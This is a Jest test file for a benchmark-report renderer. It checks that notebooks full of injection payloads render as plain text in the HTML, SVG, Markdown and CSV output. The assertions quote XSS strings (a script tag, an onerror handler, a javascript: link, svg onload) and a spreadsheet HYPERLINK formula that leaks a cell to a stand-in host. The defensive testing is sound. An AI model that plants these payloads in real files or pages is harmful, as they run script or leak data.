/**
 * The hostile notebook corpus (ui-tests/hostile) through every reader and
 * format: valid runs kept, invalid ones reported, and no payload surviving as
 * markup, link, event handler or spreadsheet formula.
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { removeMath, replaceMath } from '@jupyterlab/rendermime/lib/latex';
import { marked } from 'marked';
import { renderChartSvg } from '../chart';
import { CSV_CELL_MAX, renderCsv } from '../csv';
import { renderHtml } from '../html';
import { renderJson } from '../json';
import { renderMarkdown } from '../markdown';
import { mergeRuns, sourceFromRead } from '../merge';
import type { IMergedReport } from '../types';
import type { IReadResult } from '../../records/types';
import { readDeviceBench, readSourceFile } from '../../records/validate';
import { parseCsv } from './fixtures/parseCsv';
import { validRun } from './fixtures/build';

const CORPUS = path.resolve(__dirname, '../../../ui-tests/hostile');
const SCRIPT = path.join(CORPUS, 'make_corpus.py');
const PYTHON = process.env.PYTHON ?? 'python3';
const SENTINEL = 'window.__deviceBenchPwned=1';

/**
 * What reading each corpus notebook must find: valid runs, invalid entries,
 * schema version, number of problems.
 */
const EXPECTED_READ: Record<string, [number, number, number | null, number]> = {
  '01-script-injection.ipynb': [37, 1, 1, 1],
  '02-links.ipynb': [27, 0, 1, 0],
  '03-formula-injection.ipynb': [25, 0, 1, 0],
  '04-wrong-types.ipynb': [2, 17, 1, 1],
  '05-runs-not-array.ipynb': [0, 1, 1, 1],
  '06-device-bench-not-object.ipynb': [0, 1, null, 1],
  '07-future-schema.ipynb': [2, 1, 99, 3],
  '08-prototype-keys.ipynb': [3, 0, 1, 0],
  '09-unicode.ipynb': [4, 0, 1, 0]
};

/**
 * Tags and attributes our HTML and SVG may contain; anything else would have
 * come from a notebook.
 */
const TAGS = new Set([
  '!doctype',
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'main',
  'h1',
  'h2',
  'p',
  'time',
  'span',
  'section',
  'ul',
  'li',
  'div',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'figure',
  'footer',
  'svg',
  'desc',
  'g',
  'rect',
  'text',
  'line'
]);
const ATTRIBUTES = new Set([
  'lang',
  'charset',
  'http-equiv',
  'content',
  'name',
  'datetime',
  'class',
  'aria-labelledby',
  'id',
  'scope',
  'xmlns',
  'width',
  'height',
  'viewbox',
  'role',
  'font-family',
  'font-size',
  'font-weight',
  'font-style',
  'x',
  'y',
  'x1',
  'x2',
  'y1',
  'y2',
  'fill',
  'fill-opacity',
  'stroke',
  'stroke-dasharray',
  'text-anchor'
]);

function corpusFiles(): string[] {
  return fs
    .readdirSync(CORPUS)
    .filter(name => name.endsWith('.ipynb'))
    .sort();
}

function readCorpus(): Map<string, IReadResult> {
  const results = new Map<string, IReadResult>();
  for (const name of corpusFiles()) {
    const json = JSON.parse(fs.readFileSync(path.join(CORPUS, name), 'utf8'));
    results.set(name, readSourceFile(json));
  }
  return results;
}

/**
 * Every tag and attribute in markup is one we write; no attribute value holds
 * a URL scheme.
 */
function expectOnlyOurMarkup(markup: string): void {
  for (const match of markup.matchAll(/<\/?([!a-zA-Z][^\s/>]*)([^>]*)>/g)) {
    const tag = match[1].toLowerCase();
    expect(TAGS.has(tag) ? tag : `unexpected <${tag}>`).toBe(tag);
    for (const attribute of match[2]
      .replace(/\/$/, '')
      .matchAll(/([^\s="']+)(?:="([^"]*)")?/g)) {
      const name = attribute[1].toLowerCase();
      if (tag === '!doctype') {
        continue;
      }
      expect(ATTRIBUTES.has(name) ? name : `unexpected ${name}=`).toBe(name);
      if (tag !== 'meta') {
        // (the Content-Security-Policy names `img-src data:`)
        expect(attribute[2] ?? '').not.toMatch(/javascript:|data:|vbscript:/i);
      }
    }
  }
}

/**
 * A parsed document holds no active content.
 */
function expectInert(root: Document | Element): void {
  expect(
    root.querySelectorAll(
      'script, iframe, object, embed, img, a, link, math, details, use, foreignObject'
    )
  ).toHaveLength(0);
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name).not.toMatch(/^on/i);
      expect(attribute.name).not.toMatch(/^(src|href|xlink:href|srcdoc)$/i);
    }
  }
}

describe('hostile corpus', () => {
  const results = readCorpus();
  const report: IMergedReport = mergeRuns(
    [...results].map(([name, result]) => sourceFromRead(name, result))
  );
  const options = {
    includeReference: true,
    generatedAt: '2024-06-02T12:00:00Z'
  };

  it('has every notebook the README lists, up to date with make_corpus.py', () => {
    expect(corpusFiles()).toEqual(Object.keys(EXPECTED_READ));
    execFileSync(PYTHON, [SCRIPT, '--check']);
  });

  it.each(Object.entries(EXPECTED_READ))(
    'reads %s: valid runs kept, the rest reported',
    (name, [runs, invalid, version, problems]) => {
      const result = results.get(name)!;
      expect(result.runs).toHaveLength(runs);
      expect(result.invalid).toHaveLength(invalid);
      expect(result.schemaVersion).toBe(version);
      expect(result.problems).toHaveLength(problems);
      for (const entry of result.invalid) {
        expect(entry.preview.length).toBeLessThanOrEqual(201);
      }
    }
  );

  it('pollutes no prototype', () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(
      (Object.prototype as unknown as Record<string, unknown>).polluted
    ).toBeUndefined();
  });

  it('HTML: only our markup; every payload shown as text', () => {
    const html = renderHtml(report, options);
    expectOnlyOurMarkup(html);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i);
    const doc = new DOMParser().parseFromString(html, 'text/html');
    expectInert(doc);
    expect(doc.querySelectorAll('style')).toHaveLength(1);
    expect(doc.querySelectorAll('svg')).toHaveLength(1);
    const text = doc.body.textContent ?? '';
    expect(text).toContain(`<script>${SENTINEL}</script>`);
    expect(text).toContain(`<img src=x onerror="${SENTINEL}">`);
    expect(text).toContain(`[click me](javascript:${SENTINEL})`);
    expect(text).toContain('=HYPERLINK(');
  });

  it('SVG: well-formed, only our markup, payloads as text', () => {
    for (const standalone of [true, false]) {
      const svg = renderChartSvg(report, { ...options, standalone });
      expectOnlyOurMarkup(svg);
      const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
      expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
      expectInert(doc);
      expect(doc.documentElement.textContent).toContain('<svg onload=');
    }
  });

  it('Markdown: rendered by marked (as JupyterLab does), no HTML or link survives', () => {
    const md = renderMarkdown(report, options);
    expect(md).not.toMatch(/<(?!br>)[a-z!/]/i);
    expect(md).not.toMatch(/(?<!\\)\]\(/);
    const html = marked.parse(md, { gfm: true, async: false }) as string;
    const doc = new DOMParser().parseFromString(html, 'text/html');
    expectInert(doc);
    const text = doc.body.textContent ?? '';
    expect(text).toContain(`<script>${SENTINEL}</script>`);
    expect(text).toContain(`[click me](javascript:${SENTINEL})`);
    expect(text).toContain('www.example.invalid/phish');
    // Every line of a table stays one row: no payload breaks the table.
    const table = doc.querySelector('table')!;
    const columns = table.querySelectorAll('thead th').length;
    for (const row of Array.from(table.querySelectorAll('tbody tr'))) {
      expect(row.querySelectorAll('td')).toHaveLength(columns);
    }
  });

  it('Markdown: no math for JupyterLab (removeMath, then MathJax on the page)', () => {
    const md = renderMarkdown(report, options);
    expect(md).toContain('&#92;&#36;&#92;&#92;href');
    const { text, math } = removeMath(md);
    expect(math).toEqual([]);
    const html = replaceMath(
      marked.parse(text, { gfm: true, async: false }) as string,
      math
    );
    const page = new DOMParser().parseFromString(html, 'text/html').body
      .textContent!;
    // MathJax's delimiters with JupyterLab's options; `\\` and `\$` are
    // its escapes (literal characters), removed first.
    expect(page.replace(/\\[\\$]/g, '')).not.toMatch(
      /\$|\\[()[\]]|\\(begin|end|ref|eqref)\b/
    );
  });

  it('CSV: every string cell that could be a formula is neutralised', () => {
    const rows = parseCsv(renderCsv(report, options));
    const width = rows[0].length;
    let neutralised = 0;
    for (const row of rows) {
      expect(row).toHaveLength(width);
      for (const cell of row) {
        expect(cell).not.toMatch(/^[=+@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
        expect(cell).not.toMatch(/^\s+[=+\-@]/);
        if (cell.startsWith('-')) {
          expect(cell).toMatch(/^-\d+(\.\d+)?(e[+-]\d+)?$/);
        }
        if (cell.startsWith("'")) {
          neutralised++;
        }
      }
    }
    expect(neutralised).toBeGreaterThan(50);
    expect(
      rows.some(row =>
        row.includes(
          '\'=HYPERLINK("https://example.invalid/?leak="&A1,"Click for details")'
        )
      )
    ).toBe(true);
  });

  it('CSV: no field is a formula when a spreadsheet splits at ; or tab', () => {
    const csv = renderCsv(report, options);
    const formula =
      /^[\s\u00a0\u3000"]*[=+@\uff1d\uff0b\uff0d\uff20]|^[\s\u00a0\u3000"]*-(?!\d+(\.\d+)?(e[+-]\d+)?$)/;
    let fields = 0;
    for (const field of csv.split(/[,;\t\r\n]/)) {
      expect(field).not.toMatch(formula);
      fields++;
    }
    expect(fields).toBeGreaterThan(1000);
  });

  it('JSON: the valid runs as they were, parseable', () => {
    const json = JSON.parse(renderJson(report, options));
    expect(json.runs).toHaveLength(report.runs.length);
  });
});

describe('10 MB strings', () => {
  const big = `<script>${SENTINEL}</script>` + 'A'.repeat(10 * 1024 * 1024);
  const valid = (id: string, fields: Record<string, unknown>) =>
    validRun({
      id,
      source: 'headless',
      machine_label: 'Big',
      device: 'cuda:0',
      ...fields
    });

  function check(report: IMergedReport): void {
    const html = renderHtml(report, { includeReference: true });
    expect(html.length).toBeLessThan(100_000);
    expect(html).toContain(
      '&lt;script&gt;window.__deviceBenchPwned=1&lt;/script&gt;'
    );
    expect(html).toContain('A…');
    expectOnlyOurMarkup(html);
    const svg = renderChartSvg(report);
    expect(svg.length).toBeLessThan(50_000);
    const md = renderMarkdown(report);
    expect(md.length).toBeLessThan(50_000);
    for (const row of parseCsv(renderCsv(report))) {
      for (const cell of row) {
        expect(cell.length).toBeLessThanOrEqual(CSV_CELL_MAX + 1);
      }
    }
  }

  it('are truncated everywhere they are shown', () => {
    const result = readDeviceBench({
      schema_version: 1,
      runs: [
        valid('name', { device_name: big }),
        valid('profile', { profile: big }),
        valid('params', { params: { blob: big } }),
        valid('label', { machine_label: big }),
        valid('error', { status: 'failed', error: big })
      ]
    });
    expect(result.runs.map(run => run.id)).toEqual([
      'name',
      'profile',
      'params'
    ]);
    expect(result.invalid.map(entry => entry.reason)).toEqual([
      'machine_label must NOT have more than 200 characters',
      'error must NOT have more than 2000 characters'
    ]);
    check(mergeRuns([sourceFromRead('big.ipynb', result)]));
  });

  it('in the notebook make_corpus.py --huge writes into a temporary folder', () => {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'device-bench-huge-'));
    try {
      const file = execFileSync(PYTHON, [SCRIPT, '--huge', folder], {
        encoding: 'utf8'
      }).trim();
      const result = readSourceFile(JSON.parse(fs.readFileSync(file, 'utf8')));
      expect(result.runs).toHaveLength(2);
      expect(result.invalid).toHaveLength(1);
      expect(result.runs[1].device_name).toHaveLength(10 * 1024 * 1024);
      check(mergeRuns([sourceFromRead(path.basename(file), result)]));
    } finally {
      fs.rmSync(folder, { recursive: true, force: true });
    }
  });
});
